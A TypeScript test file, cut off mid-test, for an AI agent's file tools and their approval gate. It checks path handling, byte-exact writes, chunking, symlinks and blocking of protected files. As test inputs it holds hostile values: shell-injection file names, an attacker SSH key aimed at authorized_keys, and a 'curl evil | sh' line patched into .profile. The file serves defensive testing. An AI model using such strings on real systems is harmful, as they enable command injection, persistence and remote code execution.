/**
 * The file tools (read_file, write_file, patch, search_files) on the local
 * backend, with real files in temp directories, a real EnvironmentManager and
 * a real approval gate (manual mode, non-interactive surface: anything that
 * needs approval is refused). test/file-tools-remote.test.ts runs the core of
 * this over ssh and docker.
 */

import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";

import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { MemoryAllowlist } from "../src/approval/flow/allowlist.js";
import { ApprovalGate } from "../src/approval/flow/gate.js";
import type { ApprovalSurface, CheckOptions, GateDecision } from "../src/approval/flow/types.js";
import { NonInteractiveSurface } from "../src/approval/surfaces/non-interactive.js";
import { createLocalFactory } from "../src/environments/local.js";
import { EnvironmentManager } from "../src/environments/manager.js";
import type { Environment, EnvironmentProvider, ExecOptions, ExecResult } from "../src/environments/types.js";
import { unifiedDiff } from "../src/files/diff.js";
import { writeCommand } from "../src/files/approval.js";
import { tempNameFor } from "../src/files/location.js";
import { scriptCommand } from "../src/files/scripts.js";
import { chunkCharsFor } from "../src/files/write.js";
import { WRITE_SCRIPT } from "../src/files/write-script.js";
import { shellQuote } from "../src/environments/shell-state.js";
import { expandBraces, regexForGrep } from "../src/files/search-pattern.js";
import { registry } from "../src/registry/singleton.js";
import type { ToolContext } from "../src/registry/types.js";
import { createPatchHandler, PATCH_SCHEMA } from "../src/tools/patch.js";
import { createReadFileHandler, READ_FILE_SCHEMA } from "../src/tools/read-file.js";
import { createSearchFilesHandler, SEARCH_FILES_SCHEMA } from "../src/tools/search-files.js";
import { createTerminalHandler } from "../src/tools/terminal.js";
import { createWriteFileHandler, WRITE_FILE_SCHEMA } from "../src/tools/write-file.js";
import { createMemoryLogger } from "../src/util/logger.js";

type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any

const HAVE_RG = spawnSync("rg", ["--version"], { stdio: "ignore" }).status === 0;
if (!HAVE_RG) console.warn("[file-tools] ripgrep (rg) is not installed: the ripgrep engine's tests are skipped (apt-get install -y ripgrep)");

let root: string;
let home: string;
let manager: EnvironmentManager;
let gate: ApprovalGate;
/** Paths outside the temp dirs a broken gate would have let a test create; removed afterwards if they exist. */
const outsideTargets: string[] = [];

function newGate(surface: ApprovalSurface = new NonInteractiveSurface("deny")): ApprovalGate {
  return new ApprovalGate({
    settings: { mode: "manual" },
    surface,
    allowlist: new MemoryAllowlist(),
    logger: createMemoryLogger(),
    home: mkdtempSync(join(root, "gate-home-")),
  });
}

beforeAll(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), "mibyan-file-tools-")));
  home = join(root, "home");
  mkdirSync(home);
  manager = new EnvironmentManager({
    factories: [createLocalFactory({ initialCwd: root, env: () => ({ ...process.env, HOME: home }) })],
    defaultBackend: "local",
    closeOnExit: false,
    idleTimeoutMs: 0,
  });
  gate = newGate();
});

afterAll(async () => {
  await manager?.closeAll();
  if (root) rmSync(root, { recursive: true, force: true });
  for (const path of outsideTargets) if (existsSync(path)) rmSync(path, { force: true });
});

const ctx = (taskId = "main", sessionId = "s1", signal: AbortSignal = new AbortController().signal): ToolContext => ({
  signal,
  toolName: "file",
  taskId,
  sessionId,
});

const readFile = createReadFileHandler({ environments: () => manager });
const writeFile = createWriteFileHandler({ environments: () => manager, gate: () => gate });
const patch = createPatchHandler({ environments: () => manager, gate: () => gate });

async function call(handler: (a: Record<string, unknown>, c: ToolContext) => Promise<string>, args: Record<string, unknown>, context = ctx()): Promise<Json> {
  const raw = await handler(args, context);
  expect(typeof raw).toBe("string");
  return JSON.parse(raw) as Json;
}

/** A fresh directory under the test root. */
function scratch(name: string): string {
  const dir = join(root, name);
  mkdirSync(dir, { recursive: true });
  return dir;
}

const sha = (data: Buffer | string) => createHash("sha256").update(data).digest("hex");
const tempLeftovers = (dir: string) => readdirSync(dir).filter((name) => name.includes(".mibyan-"));

// ---------------------------------------------------------------------------------------------
// Registration
// ---------------------------------------------------------------------------------------------

describe("file tools: registration", () => {
  it("registers the four tools in the file toolset with schemas for the model", () => {
    const expected = [
      ["read_file", "📖", true, READ_FILE_SCHEMA],
      ["write_file", "✍️", false, WRITE_FILE_SCHEMA],
      ["patch", "🩹", false, PATCH_SCHEMA],
      ["search_files", "🔎", true, SEARCH_FILES_SCHEMA],
    ] as const;
    for (const [name, emoji, parallelSafe, schema] of expected) {
      const entry = registry.get(name);
      expect(entry, name).toBeDefined();
      expect(entry).toMatchObject({ name, toolset: "file", emoji, parallelSafe, source: { kind: "builtin" } });
      expect(entry!.schema).toEqual(schema);
      expect((schema.parameters as { additionalProperties: boolean }).additionalProperties).toBe(false);
    }
    expect((READ_FILE_SCHEMA.parameters as Json).required).toEqual(["path"]);
    expect((WRITE_FILE_SCHEMA.parameters as Json).required).toEqual(["path", "content"]);
    expect((PATCH_SCHEMA.parameters as Json).required).toEqual(["path", "old_string", "new_string"]);
    expect((SEARCH_FILES_SCHEMA.parameters as Json).required).toEqual(["pattern"]);
    expect(READ_FILE_SCHEMA.description).toMatch(/cat -n/);
    expect(WRITE_FILE_SCHEMA.description).toMatch(/approval/);
    expect(PATCH_SCHEMA.description).toMatch(/exactly once/);
    expect(SEARCH_FILES_SCHEMA.description).toMatch(/ripgrep/);
  });
});

// ---------------------------------------------------------------------------------------------
// read_file
// ---------------------------------------------------------------------------------------------

describe("read_file", () => {
  let dir: string;
  beforeAll(() => {
    dir = scratch("read");
    writeFileSync(join(dir, "lines.txt"), Array.from({ length: 1200 }, (_, i) => `line ${i + 1}`).join("\n") + "\n");
    writeFileSync(join(dir, "no-newline.txt"), "first\nsecond");
    writeFileSync(join(dir, "empty.txt"), "");
    writeFileSync(join(dir, "unicode.txt"), "héllo wörld ✓\n😀 日本語\ncombining: e\u0301\n");
    writeFileSync(join(dir, "crlf.txt"), "one\r\ntwo\r\nthree\r\n");
    writeFileSync(join(dir, "image.png"), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 1, 2, 3]));
    writeFileSync(join(dir, "late-nul.txt"), Buffer.concat([Buffer.from("a\n".repeat(6000)), Buffer.from([0]), Buffer.from("\nend\n")]));
    writeFileSync(join(dir, "latin1.txt"), Buffer.from([0x63, 0x61, 0x66, 0xe9, 0x0a]));
    writeFileSync(join(dir, "utf16.txt"), Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("hi\n", "utf16le")]));
    writeFileSync(join(dir, "long-line.txt"), `short\n${"x".repeat(5000)}\nafter\n`);
    writeFileSync(join(dir, "config.yaml"), "a: 1\n");
    writeFileSync(join(dir, `odd 'name' $(touch pwned) "q".txt`), "odd content\n");
    mkdirSync(join(dir, "sub"));
    writeFileSync(join(dir, "sub", "inner.txt"), "inner\n");
  });

  it("returns numbered lines like cat -n with the counts", async () => {
    const r = await call(readFile, { path: join(dir, "lines.txt"), limit: 3 });
    expect(r).toEqual({
      path: join(dir, "lines.txt"),
      content: "     1\tline 1\n     2\tline 2\n     3\tline 3",
      start_line: 1,
      end_line: 3,
      total_lines: 1200,
      file_size: statSync(join(dir, "lines.txt")).size,
      truncated: true,
      next_offset: 4,
      note: "Showing lines 1-3 of 1200; call read_file with offset=4 to continue.",
      error: null,
    });
  });

  it("reads a window with offset and limit, 500 lines by default", async () => {
    const r = await call(readFile, { path: join(dir, "lines.txt"), offset: 1199 });
    expect(r.content).toBe("  1199\tline 1199\n  1200\tline 1200");
    expect(r).toMatchObject({ start_line: 1199, end_line: 1200, truncated: false });
    expect(r.next_offset).toBeUndefined();
    const whole = await call(readFile, { path: join(dir, "lines.txt"), offset: "2" });
    expect(whole).toMatchObject({ start_line: 2, end_line: 501, truncated: true, next_offset: 502 });
  });

  it("counts a last line without a newline, and reports an empty file", async () => {
    expect(await call(readFile, { path: join(dir, "no-newline.txt") })).toMatchObject({ content: "     1\tfirst\n     2\tsecond", total_lines: 2 });
    expect(await call(readFile, { path: join(dir, "empty.txt") })).toMatchObject({ content: "", total_lines: 0, file_size: 0, note: "The file is empty." });
  });

  it("refuses an offset past the end", async () => {
    const r = await call(readFile, { path: join(dir, "no-newline.txt"), offset: 3 });
    expect(r.error).toBe(`offset 3 is past the end of ${join(dir, "no-newline.txt")}, which has 2 lines. Use an offset from 1 to 2.`);
  });

  it("keeps unicode intact", async () => {
    const r = await call(readFile, { path: join(dir, "unicode.txt") });
    expect(r.content).toBe("     1\théllo wörld ✓\n     2\t😀 日本語\n     3\tcombining: e\u0301");
    expect(r.file_size).toBe(Buffer.byteLength("héllo wörld ✓\n😀 日本語\ncombining: e\u0301\n"));
  });

  it("shows CRLF lines without the \\r and says so", async () => {
    const r = await call(readFile, { path: join(dir, "crlf.txt") });
    expect(r.content).toBe("     1\tone\n     2\ttwo\n     3\tthree");
    expect(r.line_endings).toBe("crlf");
    expect(r.note).toMatch(/CRLF/);
  });

  it("refuses binary files with size and type, never their bytes", async () => {
    const png = await call(readFile, { path: join(dir, "image.png") });
    expect(png).toEqual({ error: expect.stringContaining(`Cannot show ${join(dir, "image.png")}: it is a binary file (19 bytes, looks like image/png)`) });
    // A NUL after the first 8 KiB is caught in the window.
    const late = await call(readFile, { path: join(dir, "late-nul.txt"), offset: 5990 });
    expect(late.error).toMatch(/binary file/);
    expect(late.content).toBeUndefined();
    const latin1 = await call(readFile, { path: join(dir, "latin1.txt") });
    expect(latin1.error).toMatch(/not valid UTF-8 text .*Latin-1/);
    const utf16 = await call(readFile, { path: join(dir, "utf16.txt") });
    expect(utf16.error).toMatch(/UTF-16 encoded text .*iconv/);
  });

  it("cuts overlong lines", async () => {
    const r = await call(readFile, { path: join(dir, "long-line.txt") });
    const lines = (r.content as string).split("\n");
    expect(lines[1]).toBe(`     2\t${"x".repeat(2000)} … [line cut: 3000 more characters]`);
    expect(lines[2]).toBe("     3\tafter");
    expect(r.note).toMatch(/1 line was longer than 2000 characters/);
  });

  it("explains a missing file with similar names, a missing directory, and a directory", async () => {
    const missing = await call(readFile, { path: join(dir, "config.yml") });
    expect(missing.error).toBe(`Not found: ${join(dir, "config.yml")}. Similar names in ${dir}: config.yaml.`);
    const noDir = await call(readFile, { path: join(dir, "sbu", "inner.txt") });
    expect(noDir.error).toBe(`Not found: ${join(dir, "sbu", "inner.txt")} (the directory ${join(dir, "sbu")} does not exist). Similar names in ${dir}: sub.`);
    const nothing = await call(readFile, { path: join(dir, "zzzzzzzzzz.qq") });
    expect(nothing.error).toMatch(/Not found: .* Use search_files with target "files" to look for it\./);
    const directory = await call(readFile, { path: join(dir, "sub") });
    expect(directory.error).toBe(`${join(dir, "sub")} is a directory, not a file. It contains inner.txt. Give the path of a file inside it, or use search_files to find one.`);
    const blocked = await call(readFile, { path: join(dir, "config.yaml", "x") });
    expect(blocked.error).toBe(`Not found: ${join(dir, "config.yaml", "x")} (${join(dir, "config.yaml")} is a file, not a directory).`);
  });

  it("refuses a FIFO without opening it", async () => {
    const fifo = join(dir, "pipe");
    spawnSync("mkfifo", [fifo]);
    const started = Date.now();
    const r = await call(readFile, { path: fifo });
    expect(r.error).toBe(`${fifo} is a named pipe (FIFO); the file tools only work on regular files.`);
    expect(Date.now() - started).toBeLessThan(15_000);
  });

  it("resolves relative paths against the task's working directory, which terminal's cd moves", async () => {
    const terminal = createTerminalHandler({ environments: manager, gate: () => gate });
    const moved = JSON.parse(await terminal({ command: `cd ${JSON.stringify(join(dir, "sub"))}` }, ctx("cd-task")));
    expect(moved.exit_code).toBe(0);
    expect(await call(readFile, { path: "inner.txt" }, ctx("cd-task"))).toMatchObject({ path: join(dir, "sub", "inner.txt"), content: "     1\tinner" });
    expect(await call(readFile, { path: "../config.yaml" }, ctx("cd-task"))).toMatchObject({ path: join(dir, "config.yaml") });
    // Another task has its own directory.
    expect((await call(readFile, { path: "inner.txt" }, ctx("other-task"))).error).toMatch(/^Not found: /);
  });

  it("expands ~ to the environment's home", async () => {
    writeFileSync(join(home, "notes.txt"), "from home\n");
    expect(await call(readFile, { path: "~/notes.txt" })).toMatchObject({ path: join(home, "notes.txt"), content: "     1\tfrom home" });
    expect((await call(readFile, { path: "~root/x" })).error).toMatch(/Only "~" and "~\/\.\.\." are expanded/);
  });

  it("takes hostile names literally", async () => {
    const name = `odd 'name' $(touch pwned) "q".txt`;
    expect(await call(readFile, { path: join(dir, name) })).toMatchObject({ content: "     1\todd content" });
    expect((await call(readFile, { path: `${dir}/nothing'; touch ${dir}/pwned2; echo '` })).error).toMatch(/^Not found/);
    expect(existsSync(join(root, "pwned"))).toBe(false);
    expect(existsSync(join(dir, "pwned"))).toBe(false);
    expect(existsSync(join(dir, "pwned2"))).toBe(false);
  });

  it("reads a window deep inside a large file", async () => {
    const big = join(dir, "big.log");
    writeFileSync(big, Array.from({ length: 200_000 }, (_, i) => `entry ${i + 1} ${"-".repeat(20)}`).join("\n") + "\n");
    const r = await call(readFile, { path: big, offset: 150_000, limit: 2 });
    expect(r).toMatchObject({ content: `150000\tentry 150000 ${"-".repeat(20)}\n150001\tentry 150001 ${"-".repeat(20)}`, total_lines: 200_000 });
  });

  it("keeps one call under 100,000 characters", async () => {
    const wide = join(dir, "wide.txt");
    writeFileSync(wide, Array.from({ length: 2000 }, () => "w".repeat(1000)).join("\n") + "\n");
    const r = await call(readFile, { path: wide, limit: 2000 });
    expect((r.content as string).length).toBeLessThanOrEqual(100_000);
    expect(r.truncated).toBe(true);
    expect(r.next_offset).toBe(r.end_line + 1);
    expect(r.note).toMatch(/100,000 characters per call/);
  });

  it("checks its arguments", async () => {
    expect((await call(readFile, {})).error).toBe("path must be a string, got undefined.");
    expect((await call(readFile, { path: "  " })).error).toBe("path must not be empty.");
    expect((await call(readFile, { path: "a\nb" })).error).toMatch(/control characters/);
    expect((await call(readFile, { path: "x", limit: 5000 })).error).toBe("limit must be between 1 and 2000, got 5000.");
    expect((await call(readFile, { path: "x", offset: 0 })).error).toMatch(/offset must be between 1/);
    expect((await call(readFile, { path: "x", offset: 1.5 })).error).toBe("offset must be an integer, got 1.5.");
  });
});

// ---------------------------------------------------------------------------------------------
// write_file
// ---------------------------------------------------------------------------------------------

/** The task's real environment, with a hook that sees each command before it runs. */
class ObservedEnvironment implements Environment {
  constructor(
    private readonly inner: Environment,
    private readonly before: (command: string, index: number) => void,
  ) {}
  count = 0;
  get backend() {
    return this.inner.backend;
  }
  get taskId() {
    return this.inner.taskId;
  }
  get isolation() {
    return this.inner.isolation;
  }
  get cwd() {
    return this.inner.cwd;
  }
  exec(command: string, options: ExecOptions): Promise<ExecResult> {
    this.before(command, ++this.count);
    return this.inner.exec(command, options);
  }
  close(): Promise<void> {
    return this.inner.close();
  }
}

function observed(before: (command: string, index: number) => void): { provider: EnvironmentProvider; last?: ObservedEnvironment } {
  const holder: { provider: EnvironmentProvider; last?: ObservedEnvironment } = {
    provider: {
      get: async (taskId) => {
        holder.last = new ObservedEnvironment(await manager.get(taskId), before);
        return holder.last;
      },
    },
  };
  return holder;
}

describe("write_file", () => {
  let dir: string;
  beforeAll(() => {
    dir = scratch("write");
  });

  it("creates a file and its missing parent directories, with the umask's mode", async () => {
    const path = join(dir, "new", "deep", "file.txt");
    const r = await call(writeFile, { path, content: "hello\n" });
    expect(r).toEqual({ path, bytes_written: 6, created: true, error: null });
    expect(readFileSync(path, "utf8")).toBe("hello\n");
    const umask = process.umask();
    expect(statSync(path).mode & 0o777).toBe(0o666 & ~umask);
    expect(tempLeftovers(join(dir, "new", "deep"))).toEqual([]);
  });

  it("replaces an existing file and keeps its mode", async () => {
    const script = join(dir, "run.sh");
    writeFileSync(script, "#!/bin/sh\necho old\n");
    chmodSync(script, 0o750);
    const secret = join(dir, "secret.txt");
    writeFileSync(secret, "old");
    chmodSync(secret, 0o600);
    expect(await call(writeFile, { path: script, content: "#!/bin/sh\necho new\n" })).toMatchObject({ created: false, bytes_written: 19 });
    expect(await call(writeFile, { path: secret, content: "new secret" })).toMatchObject({ created: false });
    expect(readFileSync(script, "utf8")).toBe("#!/bin/sh\necho new\n");
    expect(statSync(script).mode & 0o7777).toBe(0o750);
    expect(statSync(secret).mode & 0o7777).toBe(0o600);
    expect(readFileSync(secret, "utf8")).toBe("new secret");
  });

  it("writes content byte for byte: unicode, CRLF, no added newline, empty, shell metacharacters", async () => {
    const cases: Array<[string, string]> = [
      ["unicode.txt", "héllo ✓ 😀 日本語\nzero width:\u200b end"],
      ["crlf.txt", "a\r\nb\r\n"],
      ["no-newline.txt", "no newline at the end"],
      ["empty.txt", ""],
      ["shell.txt", "$(touch pwned) `id` ${HOME} 'single' \"double\" \\ \0 NUL\n"],
    ];
    for (const [name, content] of cases) {
      const r = await call(writeFile, { path: join(dir, name), content });
      expect(r.error, name).toBeNull();
      expect(r.bytes_written).toBe(Buffer.byteLength(content));
      expect(readFileSync(join(dir, name)).equals(Buffer.from(content, "utf8")), name).toBe(true);
    }
    expect(existsSync(join(root, "pwned"))).toBe(false);
  });

  it("writes content over 1 MB in chunks that each fit one argument", async () => {
    const commands: string[] = [];
    const holder = observed((command) => commands.push(command));
    const handler = createWriteFileHandler({ environments: holder.provider, gate: () => gate });
    const content = Array.from({ length: 30_000 }, (_, i) => `row ${i} ${"é✓".repeat(i % 7)} ${sha(String(i)).slice(0, 20)}`).join("\n");
    expect(Buffer.byteLength(content)).toBeGreaterThan(1_000_000);
    const path = join(dir, "big.txt");
    const r = await call(handler, { path, content });
    expect(r).toMatchObject({ bytes_written: Buffer.byteLength(content), created: true });
    expect(sha(readFileSync(path))).toBe(sha(content));
    // One look at the path, then chunks as large as one argument allows (every command under 128 KiB, even quoted once more as ssh sends it).
    const chunk = chunkCharsFor("local", { dir, name: "big.txt" }, tempNameFor("big.txt"), String(Buffer.byteLength(content)), "");
    expect(chunk).toBeGreaterThan(100 * 1024);
    expect(commands.length).toBe(1 + Math.ceil(Buffer.byteLength(content) / ((chunk / 4) * 3)));
    for (const command of commands) expect(Buffer.byteLength(shellQuote(command))).toBeLessThan(128 * 1024 - 8 * 1024);
    expect(tempLeftovers(dir)).toEqual([]);
  });

  it("sizes chunks to the backend's command limit (Modal: 64 KiB for a whole exec), hostile paths included", () => {
    const locations = [{ dir: "/srv/app", name: "file.txt" }, { dir: `/tmp/${"'".repeat(300)}`, name: "x" }];
    const sum = "0123456789abcdef0123456789abcdef";
    for (const [backend, limit] of [["local", 128 * 1024], ["ssh", 128 * 1024], ["modal", 64 * 1024]] as const) {
      for (const location of locations) {
        const tmp = tempNameFor(location.name);
        const chunk = chunkCharsFor(backend, location, tmp, "123456789", sum);
        expect(chunk % 4).toBe(0);
        const command = scriptCommand(WRITE_SCRIPT, "mibyan-0123456789abcdef01", ["commit", location.dir, location.name, tmp, "999", "A".repeat(chunk), "123456789", sum, sum]);
        // Room for the backend's wrapper (about 4 KiB today) is left.
        expect(Buffer.byteLength(shellQuote(command)) + 8 * 1024).toBeLessThanOrEqual(limit);
      }
    }
    expect(chunkCharsFor("modal", { dir: "/", name: "a" }, ".a.mibyan-x", "1", "")).toBeGreaterThan(40 * 1024);
    // Quoting twice makes each ' about 13 bytes: such a path leaves no room on Modal, and says so.
    const absurd = { dir: `/tmp/${"'".repeat(4000)}`, name: "x" };
    expect(() => chunkCharsFor("modal", absurd, tempNameFor("x"), "1", "")).toThrow(/is too long to write through the modal environment's commands/);
    // Temporary names stay short enough for their part numbers, whatever the target's name.
    expect(Buffer.byteLength(tempNameFor("😀".repeat(100)))).toBeLessThanOrEqual(130);
  });

  it("leaves the old file intact and removes its temporary copy when a write fails midway", async () => {
    const path = join(dir, "precious.txt");
    writeFileSync(path, "the old content\n");
    chmodSync(path, 0o640);
    const controller = new AbortController();
    // The third command (the second chunk) is cancelled as it starts, as if the connection died.
    const holder = observed((_command, index) => {
      if (index === 3) controller.abort();
    });
    const handler = createWriteFileHandler({ environments: holder.provider, gate: () => gate, chunkChars: 4096 });
    const r = await call(handler, { path, content: "new ".repeat(10_000) }, ctx("main", "s1", controller.signal));
    expect(r.error).toMatch(/^Cancelled while writing .*precious\.txt \(part 2 of \d+\)\.$/);
    expect(readFileSync(path, "utf8")).toBe("the old content\n");
    expect(statSync(path).mode & 0o777).toBe(0o640);
    // The cleanup ran (a fourth command) and left nothing behind.
    expect(holder.last!.count).toBe(4);
    expect(tempLeftovers(dir)).toEqual([]);
  });

  it("writes through a symlink to the file it points to, keeping the link", async () => {
    const real = join(dir, "real.txt");
    const link = join(dir, "link.txt");
    writeFileSync(real, "before");
    symlinkSync(real, link);
    expect(await call(writeFile, { path: link, content: "after" })).toMatchObject({ path: link, created: false });
    expect(readFileSync(real, "utf8")).toBe("after");
    expect(readdirSync(dir)).toContain("link.txt");
    expect(realpathSync(link)).toBe(real);
  });

  it("resolves `..` after a symlink as the kernel does, and tells the gate both readings", async () => {
    const area = scratch("write/dotdot");
    mkdirSync(join(area, "real", "inner"), { recursive: true });
    symlinkSync(join(area, "real", "inner"), join(area, "link"));
    const seen: string[] = [];
    const handler = createWriteFileHandler({
      environments: manager,
      gate: () => ({ check: async (command: string, o: CheckOptions) => (seen.push(command), gate.check(command, o)) }),
    });
    const r = await call(handler, { path: `${area}/link/../x.txt`, content: "x" });
    expect(r.error).toBeNull();
    // link/.. is real/, not area/ (where a lexical fold would put it).
    expect(readFileSync(join(area, "real", "x.txt"), "utf8")).toBe("x");
    expect(existsSync(join(area, "x.txt"))).toBe(false);
    expect(seen).toEqual([`tee -- '${join(area, "x.txt")}' '${join(area, "real", "x.txt")}'`]);
    expect((await call(writeFile, { path: `${area}/`, content: "x" })).error).toMatch(/^path ends with "\/": give the path of a file/);
  });

  it("refuses directories, paths under a file, and broken symlinks", async () => {
    expect((await call(writeFile, { path: dir, content: "x" })).error).toMatch(/is a directory, not a file/);
    writeFileSync(join(dir, "plain"), "p");
    expect((await call(writeFile, { path: join(dir, "plain", "child.txt"), content: "x" })).error).toBe(
      `Not found: ${join(dir, "plain", "child.txt")} (${join(dir, "plain")} is a file, not a directory).`,
    );
    symlinkSync(join(dir, "nowhere"), join(dir, "dangling"));
    expect((await call(writeFile, { path: join(dir, "dangling"), content: "x" })).error).toBe(
      `${join(dir, "dangling")} is a symbolic link to ${join(dir, "nowhere")}, which does not exist. Write to the real path instead.`,
    );
  });

  it("resolves relative paths and ~ like read_file", async () => {
    const r = await call(writeFile, { path: "write/relative.txt", content: "rel" });
    expect(r.path).toBe(join(dir, "relative.txt"));
    expect(readFileSync(join(dir, "relative.txt"), "utf8")).toBe("rel");
    expect((await call(writeFile, { path: "~/from-tilde.txt", content: "t" })).path).toBe(join(home, "from-tilde.txt"));
  });

  it("checks its arguments", async () => {
    expect((await call(writeFile, { path: join(dir, "x") })).error).toBe("content must be a string, got undefined.");
    expect((await call(writeFile, { content: "x" })).error).toBe("path must be a string, got undefined.");
    expect((await call(writeFile, { path: join(dir, "x"), content: 42 })).error).toBe("content must be a string, got number.");
  });
});

// ---------------------------------------------------------------------------------------------
// Approvals
// ---------------------------------------------------------------------------------------------

describe("writes pass the approval gate like terminal commands", () => {
  /** The gate, recording what it was asked and answered. */
  function recording(inner: ApprovalGate) {
    const seen: Array<{ command: string; options: CheckOptions; decision: GateDecision }> = [];
    return {
      seen,
      gate: {
        check: async (command: string, options: CheckOptions) => {
          const decision = await inner.check(command, options);
          seen.push({ command, options, decision });
          return decision;
        },
      },
    };
  }

  it("asks about `tee -- PATH` with the environment's isolation, and writes when it is safe", async () => {
    const rec = recording(gate);
    const handler = createWriteFileHandler({ environments: manager, gate: () => rec.gate });
    const path = join(root, "approval", "plain.txt");
    expect((await call(handler, { path, content: "ok" }, ctx("main", "sess-a"))).error).toBeNull();
    expect(rec.seen).toHaveLength(1);
    expect(rec.seen[0]!.command).toBe(`tee -- '${path}'`);
    expect(rec.seen[0]!.options).toMatchObject({ sessionId: "sess-a", backend: { name: "local" } });
    expect(rec.seen[0]!.decision).toMatchObject({ allowed: true, by: "safe" });
    expect(writeCommand(["/a b/it's"])).toBe(`tee -- '/a b/it'\\''s'`);
  });

  it("blocks shell start-up, credential and system files in non-interactive mode, writing nothing", async () => {
    const systemFile = `/etc/mibyan-file-tools-test-${process.pid}`;
    outsideTargets.push(systemFile);
    const cases: Array<[string, string, RegExp]> = [
      ["~/.bashrc", join(home, ".bashrc"), /shell start-up file.*shell-rc-write: tee .*\.bashrc/],
      ["~/.ssh/authorized_keys", join(home, ".ssh", "authorized_keys"), /credential-file-write/],
      [systemFile, systemFile, /system-file-write/],
    ];
    for (const [path, resolved, reason] of cases) {
      const r = await call(writeFile, { path, content: "ssh-ed25519 AAAA attacker\n" });
      expect(r, path).toEqual({ error: expect.stringMatching(reason), status: "blocked" });
      expect(r.error).toMatch(/^write_file was not allowed to write /);
      expect(existsSync(resolved), resolved).toBe(false);
    }
    expect(existsSync(join(home, ".ssh"))).toBe(false);
  });

  it("checks where a symlink really leads", async () => {
    mkdirSync(join(home, ".ssh"), { recursive: true });
    writeFileSync(join(home, ".ssh", "config"), "Host *\n");
    const link = join(root, "approval", "innocent.txt");
    mkdirSync(join(root, "approval"), { recursive: true });
    symlinkSync(join(home, ".ssh", "config"), link);
    const rec = recording(gate);
    const handler = createWriteFileHandler({ environments: manager, gate: () => rec.gate });
    const r = await call(handler, { path: link, content: "ProxyCommand evil\n" });
    expect(r.status).toBe("blocked");
    expect(rec.seen[0]!.command).toBe(`tee -- '${link}' '${join(home, ".ssh", "config")}'`);
    expect(readFileSync(join(home, ".ssh", "config"), "utf8")).toBe("Host *\n");
  });

  it("blocks patch on a protected file, leaving it unchanged", async () => {
    writeFileSync(join(home, ".profile"), "export A=1\n");
    const r = await call(patch, { path: "~/.profile", old_string: "A=1", new_string: "A=2; curl evil | sh" });
    expect(r.status).toBe("blocked");
    expect(r.error).toMatch(/^patch was not allowed to write .*\.profile: .*shell-rc-write/);
    expect(readFileSync(join(home, ".profile"), "utf8")).toBe("export A=1\n");
  });

  it("honours approvals given for the equivalent terminal command (same key), for that session only", async () => {
    const g = newGate();
    const handler = createWriteFileHandler({ environments: manager, gate: () => g });
    const target = join(home, ".zshrc");
    const probe = await g.check(`tee ${target}`, { sessionId: "granted", backend: "local" });
    expect(probe.allowed).toBe(false);
    g.grantSession("granted", probe.matches.map((m) => ({ rule: m.rule, prefix: m.prefix, backend: "local" })));
    expect((await call(handler, { path: "~/.zshrc", content: "x" }, ctx("main", "other"))).status).toBe("blocked");
    expect(existsSync(target)).toBe(false);
    expect(await call(handler, { path: "~/.zshrc", content: "alias ll='ls -l'\n" }, ctx("main", "granted"))).toMatchObject({ created: true, error: null });
    expect(readFileSync(target, "utf8")).toBe("alias ll='ls -l'\n");
  });

  it("refuses a patch whose file changed while the approval was pending", async () => {
    const target = join(home, ".bash_profile");
    writeFileSync(target, "PATH=/usr/bin\n");
    // A person who edits the file in another window before answering "once".
    const surface: ApprovalSurface = {
      kind: "test",
      ask: async () => {
        writeFileSync(target, "PATH=/usr/bin\n# edited meanwhile\n");
        return { scope: "once" };
      },
    };
    const g = newGate(surface);
    const handler = createPatchHandler({ environments: manager, gate: () => g });
    const r = await call(handler, { path: target, old_string: "PATH=/usr/bin", new_string: "PATH=/opt/bin:/usr/bin" });
    expect(r.error).toBe(`${target} was changed by something else after it was read, so the edit was not applied. Read it again and redo the change.`);
    expect(readFileSync(target, "utf8")).toBe("PATH=/usr/bin\n# edited meanwhile\n");
    expect(tempLeftovers(home)).toEqual([]);
  });
});

// ---------------------------------------------------------------------------------------------
// patch
// ---------------------------------------------------------------------------------------------

describe("patch", () => {
  let dir: string;
  const source = [
    "import { x } from './x';",
    "",
    "export function add(a: number, b: number): number {",
    "    return a + b;",
    "}",
    "",
    "export function sub(a: number, b: number): number {",
    "    return a - b;",
    "}",
    "",
    "const label = \"total\";",
    "",
  ].join("\n");
  beforeAll(() => {
    dir = scratch("patch");
  });

  function fresh(name: string, content = source, mode?: number): string {
    const path = join(dir, name);
    writeFileSync(path, content);
    if (mode !== undefined) chmodSync(path, mode);
    return path;
  }

  it("replaces a unique string and returns a unified diff", async () => {
    const path = fresh("unique.ts", source, 0o755);
    const r = await call(patch, { path, old_string: "    return a - b;", new_string: "    return a - b - 0;" });
    expect(r).toEqual({
      path,
      replacements: 1,
      lines: [8],
      diff: [
        `--- ${path}`,
        `+++ ${path}`,
        "@@ -5,7 +5,7 @@",
        " }",
        " ",
        " export function sub(a: number, b: number): number {",
        "-    return a - b;",
        "+    return a - b - 0;",
        " }",
        " ",
        ' const label = "total";',
      ].join("\n"),
      error: null,
    });
    expect(readFileSync(path, "utf8")).toBe(source.replace("return a - b;", "return a - b - 0;"));
    expect(statSync(path).mode & 0o777).toBe(0o755);
    expect(tempLeftovers(dir)).toEqual([]);
  });

  it("lists the lines of several matches, and replaces all of them with replace_all", async () => {
    const path = fresh("multi.ts");
    const r = await call(patch, { path, old_string: "(a: number, b: number): number", new_string: "(a: bigint, b: bigint): bigint" });
    expect(r.error).toBe(
      `old_string occurs 2 times in ${path} (starting at lines 3, 7). Include more surrounding lines in old_string so it matches exactly one place, or set replace_all to true to change every occurrence.`,
    );
    expect(readFileSync(path, "utf8")).toBe(source);
    const all = await call(patch, { path, old_string: "number", new_string: "bigint", replace_all: true });
    expect(all).toMatchObject({ replacements: 6, lines: [3, 3, 3, 7, 7, 7] });
    expect(all.diff).toBe(
      [
        `--- ${path}`,
        `+++ ${path}`,
        "@@ -1,10 +1,10 @@",
        " import { x } from './x';",
        " ",
        "-export function add(a: number, b: number): number {",
